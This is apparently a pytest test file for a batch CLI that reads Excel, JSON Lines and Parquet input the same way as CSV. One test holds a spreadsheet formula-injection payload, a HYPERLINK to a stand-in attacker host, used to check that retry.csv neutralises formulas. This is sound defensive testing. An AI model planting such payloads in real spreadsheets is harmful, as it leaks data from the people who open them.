"""Inputs beyond CSV (issue 14, item 4): an .xlsx sheet, JSON Lines and Parquet read into the
very same rows as CSV (batch/io/sources.py), so validate, dry runs, results.csv, retry.csv
and resume agree whatever the format; values stay text as written; a bad file is one line
and exit 2. The CLI tests import only the CLI, so they run (and fail) against a tree that
reads every file as CSV."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import time
from dataclasses import asdict
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batch.cli import main

HEADER = ["signInType", "signInName", "displayName", "postalCode", "employeeId"]
ROWS = [
    ["emailAddress", "ann@example.com", "Ann", "0012", "NA"],
    ["emailAddress", "not-an-address", "Bob", "null", "007"],
    ["", "", "", "", ""],  # a blank row: skipped, as in CSV
    ["emailAddress", "cy@example.com", "C\x7fy", "12", "x"],  # DEL: a control character
    ["emailAddress", "Example: chris@example.com", "Example: Chris", "", ""],  # the admin center's example row
    ["emailAddress", "dee@example.com", "Dee", "2024-01-31", "1.50"],
    ["emailAddress", "ann@example.com", "Ann twice", "", ""],  # a duplicate key
]
FORMATS = ("csv", "xlsx", "jsonl", "parquet")


def write_table(path: Path, header: list[str], rows: list[list[str]], *, version_row: bool = False,
                sheet: str = "Customers") -> Path:
    """The same table in `path`'s format, every cell text."""
    kind = path.suffix.lower()
    if kind == ".xlsx":
        book = openpyxl.Workbook()
        first = book.active
        assert first is not None
        first.title = sheet
        if version_row:
            first.append(["version:v1.0"])
        first.append(header)
        for row in rows:
            first.append([cell or None for cell in row])
        book.save(path)
    elif kind in (".jsonl", ".ndjson"):
        lines = [json.dumps(dict(zip(header, row, strict=True))) if any(row) else "" for row in rows]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    elif kind == ".parquet":
        pq.write_table(pa.table({name: [row[i] for row in rows] for i, name in enumerate(header)}), path)
    else:
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\r\n")
            if version_row:
                writer.writerow(["version:v1.0"])
            writer.writerows([header, *rows])
    return path


def results(run_dir: Path, name: str = "results.csv") -> list[dict[str, str]]:
    with (run_dir / name).open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def findings(out: str) -> list[str]:
    """validate's row lines, without the .xlsx sheet row and the last line (which names the format)."""
    return [line.replace(line[line.find(" (sheet row "):line.find("):") + 1], "") if " (sheet row " in line else line
            for line in out.splitlines() if line.startswith("row ")]


# ---- the same rows, the same findings ---------------------------------------------------------------------

def test_validate_finds_the_same_in_every_format(home: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    seen = {}
    for kind in FORMATS:
        source = write_table(tmp_path / f"in.{kind}", HEADER, ROWS)
        capsys.readouterr()
        assert main(["validate", str(source), "--verb", "create", "--domain", "contoso.onmicrosoft.com"]) == 1
        out = capsys.readouterr().out
        assert f"{source}: 7 rows, " in out, out
        seen[kind] = findings(out)
    assert seen["csv"], "the rows hold problems to find"
    assert any("control character \\x7f" in line for line in seen["csv"])
    for kind in FORMATS[1:]:
        assert seen[kind] == seen["csv"], kind


def test_validate_names_the_sheet_row_of_an_xlsx(home: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    source = write_table(tmp_path / "in.xlsx", HEADER, ROWS, version_row=True)
    assert main(["validate", str(source), "--verb", "create", "--domain", "contoso.onmicrosoft.com"]) == 1
    out = capsys.readouterr().out
    assert "row 4 (sheet row 6): displayName (column 3) holds the control character \\x7f" in out, out
    assert "(xlsx, sheet 'Customers', admin center template)" in out


@pytest.mark.parametrize("kind", FORMATS[1:])
def test_a_dry_run_gives_the_same_results_as_for_csv(home: Path, tmp_path: Path, kind: str) -> None:
    assert main(["create", str(write_table(tmp_path / "first.csv", HEADER[:3], [["emailAddress", "dee@example.com",
                                                                                  "Dee"]])),
                 "--out-dir", str(tmp_path / "first"), "--quiet"]) == 0
    runs = {}
    for each in ("csv", kind):
        source = write_table(tmp_path / f"in.{each}", HEADER, ROWS)
        assert main(["create", str(source), "--dry-run", "--out-dir", str(tmp_path / each), "--quiet"]) == 1
        runs[each] = results(tmp_path / each)
    fields = ("row", "key", "status", "error_code", "error_message")
    assert [[r[f] for f in fields] for r in runs[kind]] == [[r[f] for f in fields] for r in runs["csv"]]
    assert any(r["status"] == "invalid" for r in runs[kind]) and any("exists" in r["error_message"]
                                                                    for r in runs[kind])
    # Where the user finds the row: the sheet's row (under the header), the line, the record.
    offset = {"xlsx": 1, "jsonl": 0, "parquet": 0}[kind]
    assert [int(r["line"]) for r in runs[kind]] == [n + offset for n in range(1, 8)]


# ---- values as written ---------------------------------------------------------------------------------

def test_xlsx_cells_read_as_excel_shows_them(home: Path, tmp_path: Path) -> None:
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["signInName", "displayName", "postalCode", "employeeId", "blockSignIn", "jobTitle", "department",
                  "city"])
    sheet.append(["x@example.com", "NA", "0012", 12, True, dt.date(2024, 1, 31), dt.datetime(2024, 1, 31, 13, 45), 1.5])
    sheet.append(["x@example.com", "null", 12.0, None, False, "2024-01-31", None, 14255550100])
    path = tmp_path / "values.XLSX"  # the suffix in any case
    book.save(path)
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert rows[0].cells == {"signInName": "x@example.com", "displayName": "NA", "postalCode": "0012",
                             "employeeId": "12", "blockSignIn": "TRUE",
                             "jobTitle": "2024-01-31", "department": "2024-01-31 13:45:00", "city": "1.5"}
    assert rows[1].cells == {"signInName": "x@example.com", "displayName": "null", "postalCode": "12", "employeeId": "", "blockSignIn": "FALSE",
                             "jobTitle": "2024-01-31", "department": "", "city": "14255550100"}


def test_jsonl_values_read_as_written(tmp_path: Path) -> None:
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = tmp_path / "in.ndjson"
    path.write_bytes(b'\xef\xbb\xbf{"signInName": "x@example.com", "displayName": "NA", "postalCode": "0012", "employeeId": 12, "city": 1.50, '
                     b'"blockSignIn": true, "jobTitle": null}\r\n'
                     b'{"displayName": "x", "city": 1e5, "blockSignIn": false}\n')
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert rows[0].cells == {"signInName": "x@example.com", "displayName": "NA", "postalCode": "0012",
                             "employeeId": "12", "city": "1.50",
                             "blockSignIn": "true", "jobTitle": ""}
    assert rows[1].cells == {"signInName": "", "displayName": "x", "postalCode": "", "employeeId": "", "city": "1e5",
                             "blockSignIn": "false", "jobTitle": ""}
    assert [r.problem for r in rows] == [None, None]


def test_parquet_values_read_as_text(tmp_path: Path) -> None:
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = tmp_path / "in.parquet"
    pq.write_table(pa.table({
        "signInName": ["x@example.com", "y@example.com"], "displayName": ["NA", None], "postalCode": ["0012", "00"], "employeeId": pa.array([12, None], pa.int64()),
        "jobTitle": pa.array([dt.date(2024, 1, 31), None]),
        "department": pa.array([dt.datetime(2024, 1, 31, 13, 45), dt.datetime(2024, 1, 31, 13, 45, 0, 5)]),
        "city": [1.5, 12.0], "blockSignIn": [True, False], "country": pa.array([[1], None])}), path)
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert rows[0].cells == {"signInName": "x@example.com", "displayName": "NA", "postalCode": "0012",
                             "employeeId": "12", "jobTitle": "2024-01-31",
                             "department": "2024-01-31 13:45:00", "city": "1.5", "blockSignIn": "true",
                             "country": ""}
    assert rows[1].cells["employeeId"] == "" and rows[1].cells["department"] == "2024-01-31 13:45:00.000005"
    assert rows[1].cells["city"] == "12"
    assert rows[0].problem is not None and "country (column 9) holds list<" in rows[0].problem
    assert rows[1].problem is None  # no value in the list column there


def test_bytes_that_are_not_utf8_fail_their_row_only(tmp_path: Path) -> None:
    # One bad value in a binary column made every row of the batch invalid (found by a bug hunt).
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = tmp_path / "in.parquet"
    pq.write_table(pa.table({"signInName": ["a@example.com", "b@example.com", "c@example.com", "d@example.com"],
                             "displayName": ["A", "B", "C", "D"],
                             "city": pa.array([b"Paris", b"\xe9vry", None, b"Lyon"], pa.binary())}), path)
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert [r.cells["city"] for r in rows] == ["Paris", "", "", "Lyon"]
    assert [r.problem for r in rows] == [None, "city (column 3) holds bytes that are not UTF-8 text; give it as text",
                                         None, None]


def test_jsonl_line_trouble_fails_its_row_only(tmp_path: Path) -> None:
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = tmp_path / "in.jsonl"
    path.write_text('{"signInName": "a@example.com", "displayName": "A"}\n'
                    '{"signInName": "b@example.com", "displayName": "B"\n'
                    '["c@example.com"]\n'
                    '\n'
                    '{"signInName": "d@example.com", "nickname": "D"}\n'
                    '{"signInName": "e@example.com", "displayName": {"first": "E"}}\n'
                    '{"signInName": "f@example.com", "displayName": "F"}', encoding="utf-8")
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert [r.number for r in rows] == [1, 2, 3, 4, 5, 6, 7]
    problems = [r.problem or "" for r in rows]
    assert problems[0] == "" and problems[6] == "" and rows[6].cells["displayName"] == "F"
    assert problems[1].startswith("line is not valid JSON (")
    assert problems[2].startswith("line holds a JSON array, not an object")
    assert rows[3].blank and problems[3] == ""
    assert "key 'nickname' is not in the first line's object" in problems[4]
    assert "'displayName' holds a JSON object" in problems[5]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\r\n\u2028\u2029\x85"),
                        max_size=12), min_size=1, max_size=4))
def test_text_comes_back_unchanged_in_jsonl_and_parquet(tmp_path_factory: pytest.TempPathFactory,
                                                       texts: list[str]) -> None:
    """Any text a cell holds reads back exactly as CSV would give it."""
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    folder = tmp_path_factory.mktemp("prop")
    names = ["displayName", "city", "department", "jobTitle"][:len(texts)]
    rows = [["x@example.com", *texts]]
    header = ["signInName", *names]
    read = {}
    for kind in ("csv", "jsonl", "parquet"):
        path = write_table(folder / f"in.{kind}", header, rows)
        read[kind] = [r.cells for r in open_input_file(path, VERBS["create"].columns).rows()]
    assert read["jsonl"] == read["csv"] and read["parquet"] == read["csv"]


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.integers(-10**15, 10**15), st.floats(allow_nan=False, allow_infinity=False, width=64),
                 st.booleans(), st.dates(), st.datetimes(), st.text(max_size=20)))
def test_xlsx_cell_text_as_excel_shows_it(value: object) -> None:
    from batch.io.xlsx import cell_text

    text = cell_text(value)
    if isinstance(value, bool):
        assert text == ("TRUE" if value else "FALSE")
    elif isinstance(value, str):
        assert text == value
    elif isinstance(value, int) or (isinstance(value, float) and value.is_integer() and abs(value) < 1e16):
        assert text == str(int(value)) and not text.endswith(".0")
    elif isinstance(value, float):
        assert float(text) == value
    elif isinstance(value, dt.datetime):  # to the millisecond, Excel's precision
        assert abs(dt.datetime.fromisoformat(text) - value) <= dt.timedelta(microseconds=500) and "T" not in text
        assert len(text) in (10, 19, 23) and (len(text) == 23) == (dt.datetime.fromisoformat(text).microsecond != 0)
    else:
        assert isinstance(value, dt.date) and text == value.isoformat()


# ---- sheets, the portal template, options -------------------------------------------------------------

def test_sheet_picks_a_worksheet_and_an_unknown_one_lists_them(home: Path, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "book.xlsx"
    book = openpyxl.Workbook()
    notes = book.active
    assert notes is not None
    notes.title = "Notes"
    notes.append(["nothing to see"])
    data = book.create_sheet("Customers")
    data.append(["signInName", "displayName"])
    data.append(["a@example.com", "A"])
    book.save(path)
    assert main(["validate", str(path), "--verb", "create", "--sheet", "Customers", "--domain", "c.com"]) == 0
    assert "1 row, 0 invalid, 1 valid (xlsx, sheet 'Customers')" in capsys.readouterr().out
    assert main(["validate", str(path), "--verb", "create", "--sheet", "Sheet9"]) == 2
    err = capsys.readouterr().err
    assert "has no sheet 'Sheet9'; its sheets: 'Notes', 'Customers'" in err and "Traceback" not in err
    assert main(["validate", str(path), "--verb", "create"]) == 2  # the first sheet has no such columns
    assert "missing column" in capsys.readouterr().err


@pytest.mark.parametrize(("name", "option"), [("in.xlsx", ["--encoding", "cp1252"]),
                                              ("in.parquet", ["--sheet", "Customers"]),
                                              ("in.jsonl", ["--encoding", "utf-16"])])
def test_options_that_do_not_fit_the_format_are_refused(home: Path, tmp_path: Path, name: str, option: list[str],
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    source = write_table(tmp_path / name, HEADER, ROWS[:1])
    assert main(["validate", str(source), "--verb", "create", *option]) == 2
    assert f"{option[0]} is for " in capsys.readouterr().err


# ---- bad files ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "content", "said"), [
    ("bad.xlsx", b"PK\x03\x04 not really a zip", "is not an Excel workbook (.xlsx) or is damaged"),
    ("plain.xlsx", b"signInName,displayName\r\na@example.com,A\r\n", "is not an Excel workbook (.xlsx)"),
    ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "is a password-protected workbook or an old .xls"),
    ("bad.parquet", b"PAR1 this is not parquet PAR1", "is not a Parquet file or is damaged"),
    ("empty.jsonl", b"\n\n[1]\n", "holds no JSON object: its first line holds a JSON array"),
    # The file's encoding, or a pretty-printed document, was not said (found by a bug hunt).
    ("latin1.jsonl", b'{"signInName": "h@example.com", "displayName": "H\xe9l\xe8ne"}\n',
     "holds no JSON object: its first line is not valid UTF-8 (byte 50)"),
    ("utf16.jsonl", '{"signInName": "h@example.com"}\n'.encode("utf-16"), "is UTF-16 (its byte order mark says so)"),
    ("pretty.jsonl", b'{\n  "signInName": "h@example.com"\n}\n', "holds no JSON object: its first line is not valid JSON"),
])
def test_a_bad_file_is_one_line_and_exit_2(home: Path, tmp_path: Path, name: str, content: bytes, said: str,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / name).write_bytes(content)
    for command in (["validate", str(tmp_path / name), "--verb", "create"],
                    ["create", str(tmp_path / name), "--dry-run", "--quiet"]):
        assert main(command) == 2
        err = capsys.readouterr().err
        assert said in err and "Traceback" not in err, err
        assert len([line for line in err.splitlines() if name in line]) == 1, err  # one line about the file


def test_an_empty_sheet_is_refused(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    openpyxl.Workbook().save(tmp_path / "empty.xlsx")
    assert main(["validate", str(tmp_path / "empty.xlsx"), "--verb", "create"]) == 2
    assert "sheet 'Sheet' is empty" in capsys.readouterr().err


def test_a_damaged_parquet_past_its_head_is_one_line(home: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "cut.parquet"
    pq.write_table(pa.table({"signInName": [f"u{i}@example.com" for i in range(5000)],
                             "displayName": [f"U{i}" for i in range(5000)]}), path,
                   compression="none", row_group_size=1000)
    data = bytearray(path.read_bytes())
    data[200:4000] = bytes(3800)  # the first row group's pages, zeroed; the footer intact
    path.write_bytes(bytes(data))
    assert main(["validate", str(path), "--verb", "create"]) == 2
    err = capsys.readouterr().err
    assert "cannot be read as Parquet past record" in err and "Traceback" not in err, err


def test_an_excel_error_cell_makes_its_row_invalid(home: Path, tmp_path: Path) -> None:
    # A cell whose formula failed (#N/A, #REF!) was read as its text: a customer named "#N/A".
    path = write_table(tmp_path / "in.xlsx", ["signInName", "displayName", "jobTitle"],
                       [["a@example.com", "A", "x"], ["b@example.com", "#N/A", "#REF!"], ["c@example.com", "N/A", ""]])
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    assert sheet["B3"].data_type == sheet["C3"].data_type == "e"  # openpyxl, as Excel, takes them for errors
    book.save(path)
    assert main(["create", str(path), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
    found = results(tmp_path / "run")
    assert [r["status"] for r in found] == ["created", "invalid", "created"]
    assert found[1]["error_message"] == ("displayName (column 2) holds the Excel error #N/A; fix the formula or the "
                                         "value in Excel; jobTitle (column 3) holds the Excel error #REF!; fix the "
                                         "formula or the value in Excel")


# ---- retry.csv and resume -------------------------------------------------------------------------------

def test_retry_csv_of_a_parquet_run_runs_again(home: Path, tmp_path: Path) -> None:
    source = write_table(tmp_path / "in.parquet", ["signInName", "displayName", "postalCode"],
                         [["a@example.com", "A", "0012"], ["not-an-address@", "B", "0013"],
                          ["c@example.com", "C", "NA"], ["d@example.com", "D\x7f", ""]])
    assert main(["create", str(source), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
    assert [r["status"] for r in results(tmp_path / "run")] == ["created", "invalid", "created", "invalid"]
    retry = tmp_path / "run" / "retry.csv"
    assert retry.read_bytes() == ("\ufeffsignInName,displayName,postalCode\r\nnot-an-address@,B,0013\r\n"
                                  "d@example.com,D\x7f,\r\n").encode("utf-8")
    fixed = tmp_path / "fixed.csv"
    fixed.write_bytes(retry.read_bytes().replace(b"not-an-address@", b"b@example.com").replace(b"D\x7f", b"D"))
    assert main(["create", str(fixed), "--out-dir", str(tmp_path / "again"), "--quiet"]) == 0
    assert [r["status"] for r in results(tmp_path / "again")] == ["created", "created"]


@pytest.mark.parametrize("fmt", ["xlsx", "jsonl", "parquet"])
def test_retry_csv_of_a_tabular_input_neutralises_formulas(home: Path, tmp_path: Path, fmt: str) -> None:
    # retry.csv, a CSV file made from a workbook or JSON Lines for Excel, kept the cells as they
    # were: a formula in them ran when the administrator opened it to fix the rows.
    formula = '@HYPERLINK("http://evil.example/?"&A1,"click")'  # an xlsx cell starting "=" is a formula cell
    source = write_table(tmp_path / f"in.{fmt}", ["signInName", "displayName", "jobTitle"],
                         [["a@example.com", "A", "x"], ["not-an-address@", formula, "+33 6 12"]])
    assert main(["create", str(source), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
    with (tmp_path / "run" / "retry.csv").open(newline="", encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle)) == [["signInName", "displayName", "jobTitle"],
                                            ["not-an-address@", "'" + formula, "'+33 6 12"]]
    fixed = tmp_path / "fixed.csv"
    fixed.write_bytes((tmp_path / "run" / "retry.csv").read_bytes().replace(b"not-an-address@", b"b@example.com"))
    assert main(["create", str(fixed), "--dry-run", "--out-dir", str(tmp_path / "again"), "--quiet"]) == 0
    with (tmp_path / "again" / "plan.csv").open(newline="", encoding="utf-8-sig") as handle:
        assert [r["action"] for r in csv.DictReader(handle)] == ["create"]


def test_an_interrupted_xlsx_run_resumes_on_the_same_sheet(home: Path, tmp_path: Path) -> None:
    from batch.outcome import Outcome, Status
    from batch.run.journal import Journal
    from batch.run.request import RunRequest

    path = tmp_path / "in.xlsx"
    book = openpyxl.Workbook()
    other = book.active
    assert other is not None
    other.append(["signInName", "displayName"])
    other.append(["wrong@example.com", "Wrong sheet"])
    data = book.create_sheet("Customers")
    data.append(["version:v1.0"])
    data.append(["signInName", "displayName"])
    for name in "abc":
        data.append([f"{name}@example.com", name.upper()])
    book.save(path)
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    journal = Journal(run_dir)
    journal.set_meta(request=asdict(RunRequest(verb="create", input=str(path.resolve()), sheet="Customers")),
                     fingerprint=hashlib.sha256(path.read_bytes()).hexdigest(), target="local",
                     started=time.time() - 10)
    journal.mark_done([Outcome(1, "a@example.com", Status.SKIPPED, error_message="done before")])
    journal.close()
    assert main(["resume", str(run_dir), "--quiet"]) == 0
    lines = results(run_dir)
    assert [(r["row"], r["key"], r["status"], r["line"]) for r in lines] == [
        ("1", "a@example.com", "skipped", "3"), ("2", "b@example.com", "created", "4"),
        ("3", "c@example.com", "created", "5")]
    path.write_bytes(path.read_bytes() + b"\0")  # a changed file is refused, as for CSV
    assert main(["resume", str(run_dir), "--quiet"]) == 2


def test_a_journal_remembers_results_without_a_header_line() -> None:
    from batch.io.dialect import OutputDialect

    assert OutputDialect.from_meta(OutputDialect(",", 0).as_meta()) == OutputDialect(",", 0)


# ---- JSON Lines values that are a row's trouble, never the run's (review findings 2, 3, 13e) -------------

BAD_JSONL = ('{"signInName": "a@example.com", "displayName": "A"}\n'
             '{"signInName": "b@example.com", "displayName": "Bad \\ud800"}\n'
             '{"signInName": "c@example.com", "displayName": ' + "[" * 100_000 + "]" * 100_000 + '}\n'
             '{"signInName": "d@example.com", "displayName": "D", "displayName": "Dee"}\n'
             '{"signInName": "e@example.com", "displayName": "Emoji \\ud83d\\ude00"}\n')


def test_jsonl_lone_surrogate_deep_nesting_and_duplicate_key_fail_their_row(tmp_path: Path) -> None:
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = tmp_path / "in.jsonl"
    path.write_text(BAD_JSONL, encoding="utf-8")
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    problems = [r.problem or "" for r in rows]
    assert problems[0] == "" and problems[4] == "" and rows[4].cells["displayName"] == "Emoji \U0001f600"
    assert "'displayName' holds a lone surrogate escape" in problems[1]
    assert rows[1].cells["displayName"] == "Bad \\ud800"  # as the file wrote it: it can go to results and retry.csv
    assert problems[2].startswith("line nests arrays or objects too deeply")
    assert problems[3] == "the key 'displayName' appears twice in this line's object; keep one of them"


def test_a_jsonl_run_with_bad_values_ends_with_invalid_rows_and_resumes(home: Path, tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    from batch.outcome import Outcome, Status
    from batch.run.journal import Journal
    from batch.run.request import RunRequest

    path = tmp_path / "in.jsonl"
    path.write_text(BAD_JSONL, encoding="utf-8")
    assert main(["validate", str(path), "--verb", "create"]) == 1
    assert "Traceback" not in capsys.readouterr().err
    assert main(["create", str(path), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
    assert [r["status"] for r in results(tmp_path / "run")] == ["created", "invalid", "invalid", "invalid", "created"]
    retry = (tmp_path / "run" / "retry.csv").read_text(encoding="utf-8-sig")
    assert "b@example.com,Bad \\ud800\n" in retry

    run_dir = tmp_path / "resumed"  # interrupted after its first row
    run_dir.mkdir()
    journal = Journal(run_dir)
    journal.mark_done([Outcome(1, "a@example.org", Status.SKIPPED, error_message="done before")])
    path.write_text(BAD_JSONL.replace("@example.com", "@example.org"), encoding="utf-8")  # not created above
    journal.set_meta(request=asdict(RunRequest(verb="create", input=str(path.resolve()))),
                     fingerprint=hashlib.sha256(path.read_bytes()).hexdigest(), target="local",
                     started=time.time() - 10)
    journal.close()
    assert main(["resume", str(run_dir), "--quiet"]) == 1
    assert [r["status"] for r in results(run_dir)] == ["skipped", "invalid", "invalid", "invalid", "created"]


def test_xlsx_numbers_read_as_their_zeros_and_percent_formats_show_them(home: Path, tmp_path: Path) -> None:
    """Review finding 9: 12 under `00000` is the postal code 00012 in Excel, 0.25 under `0%` is 25%."""
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["signInName", "postalCode", "employeeId", "jobTitle", "department", "city", "country",
                  "displayName"])
    sheet.append(["x@example.com", 12, 0.25, 0.1234, 1.5, -7, dt.datetime(2024, 1, 31, 13, 45, 0, 500000), "X"])
    for column, number_format in zip("BCDEF", ("00000", "0%", "0.0%", "0.00", "000"), strict=True):
        sheet[f"{column}2"].number_format = number_format
    sheet.append(["y@example.com", 12, 0.25, "#,##0", None, None, dt.datetime(2024, 1, 31, 13, 45, 0, 499999), "Y"])
    sheet["B3"].number_format = "#,##0"  # not a format of zeros: the number as is
    path = tmp_path / "formats.xlsx"
    book.save(path)
    rows = list(open_input_file(path, VERBS["create"].columns).rows())
    assert rows[0].cells == {"signInName": "x@example.com", "postalCode": "00012", "employeeId": "25%",
                             "jobTitle": "12.3%", "department": "1.50", "city": "-007",
                             "country": "2024-01-31 13:45:00.500", "displayName": "X"}
    assert rows[1].cells["postalCode"] == "12" and rows[1].cells["employeeId"] == "0.25"
    assert rows[1].cells["country"] == "2024-01-31 13:45:00.500"


def test_parquet_is_read_with_arrows_system_allocator_in_small_batches(tmp_path: Path) -> None:
    """Review finding 8: Arrow's default pool (mimalloc) kept freed batches, so a 1,000,000-row
    validate peaked ~300 MB against the CSV's ~170 (figures: batch/io/parquet.py's docstring)."""
    from batch.io import parquet
    from batch.io.sources import open_input_file
    from batch.verbs.registry import VERBS

    path = write_table(tmp_path / "in.parquet", ["signInName", "displayName"],
                       [[f"u{n}@example.com", f"U{n}"] for n in range(3 * parquet.BATCH_ROWS + 1)])
    rows = sum(1 for _ in open_input_file(path, VERBS["create"].columns).rows())
    assert rows == 3 * parquet.BATCH_ROWS + 1 and parquet.BATCH_ROWS <= 4096
    assert pa.default_memory_pool().backend_name == "system"
